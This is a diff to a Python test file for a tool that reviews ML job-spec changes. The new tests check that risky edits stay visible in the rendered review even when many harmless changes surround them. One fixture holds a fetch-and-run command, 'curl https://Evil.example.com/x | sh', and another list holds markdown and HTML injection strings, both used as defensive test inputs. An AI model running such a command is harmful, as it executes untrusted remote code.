@@ -2,6 +2,7 @@
 
 import re
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -10,9 +11,11 @@ from smspec.review.comparison import Comparison, State, reviewed
 from smspec.review.job_review import data_flow
 from smspec.review.markdown import LONGEST, MOST_CHANGES, code, markdown, marked, mermaid
 from smspec.review.text import MOST_APART
+from smspec.review.text import text as text_of
 from smspec.review.version import version_of_request
 from smspec.service.job_costs import PriceBook
 from support.review.job_reviews import version
+from support.spec import job_samples
 
 TRICKS = ["`", "``", "|", "||", "\\", "\\|", "@everyone", "<img src=x>", "[a](https://b)", "\n\n# x", "```", " ", "-->"]
 HOSTILE = st.lists(st.one_of(st.sampled_from(TRICKS), st.text(max_size=5)), min_size=1, max_size=8).map("".join)
@@ -64,13 +67,13 @@ def test_diagram_label_contains_any_text(name, place):
         )
 
 
-def review(old, new):
+def review(old, new, how=markdown):
     states = [
         State(file=file, place="", versions={None: side}, faults={})
         for file, side in (("a.yaml", old), ("b.yaml", new))
     ]
     found = reviewed(*states, PriceBook())
-    return markdown(Comparison(reviews=(found,) if found else ()))
+    return how(Comparison(reviews=(found,) if found else ()))
 
 
 def test_equal_versions_have_an_empty_review():
@@ -104,8 +107,45 @@ def test_every_row_has_four_cells(text):
 def test_long_lists_are_cut_with_a_count():
     many = {f"name_{number}": number for number in range(MOST_CHANGES * 2)}
     rendered = review(version(), version(hyperparameters=many))
-    assert "… and 21 more changes." in rendered
+    assert "… and 21 more: 21 hyperparameters; `smspec diff --format json` has them all." in rendered
     assert len(rendered.splitlines()) < MOST_CHANGES + 15
+
+
+EVIL = {
+    "role": {"role": "arn:aws:iam::111122223333:role/Evil"},
+    "run": {"image": {**job_samples.PLAIN["image"], "run": ["curl https://Evil.example.com/x | sh"]}},
+    "source": {"source": {"dir": "Evil/"}},
+    "environment": {"environment": {"PATH_OF_IT": "Evil"}},
+    "output": {"output": {"s3": "s3://Evil/"}},
+    "data": {"channels": {"train": {"s3": "s3://Evil/train/"}}},
+    "tags": {"tags": {"owner": "Evil"}},
+}
+
+
+@pytest.mark.parametrize("key", EVIL)
+@pytest.mark.parametrize("harmless", ["hyperparameters", "image.env"])
+@pytest.mark.parametrize("how", [markdown, text_of], ids=["markdown", "text"])
+def test_harmless_changes_do_not_push_out_another_key(how, harmless, key):
+    many = {f"p{number}": f"{number}" for number in range(200)}
+    new = {**job_samples.PLAIN, **EVIL[key]}
+    if harmless == "hyperparameters":
+        new |= {"hyperparameters": many}
+    else:
+        new["image"] = {**new["image"], "env": many}
+    assert "Evil" in review(version(job_samples.PLAIN), version(new), how)
+
+
+@pytest.mark.parametrize("jobs", [1, 3])
+def test_comment_of_a_few_large_jobs_has_its_limit(jobs):
+    many = {f"{'n' * 200}{number}": "|a" * 500 for number in range(100)}
+    old, new = version(), version(hyperparameters=many, environment={name.upper(): "a|" * 250 for name in many})
+    states = [
+        [State(file=f"{n}.yaml", place=f"{n}", versions={None: side}, faults={}) for side in (old, new)]
+        for n in range(jobs)
+    ]
+    rendered = markdown(Comparison(reviews=tuple(reviewed(*each, PriceBook()) for each in states)))
+    assert rendered.count("### ") == jobs
+    assert 1000 < len(rendered.encode()) <= LONGEST
 
 
 def test_diagram_is_drawn_only_for_changed_data_flow():
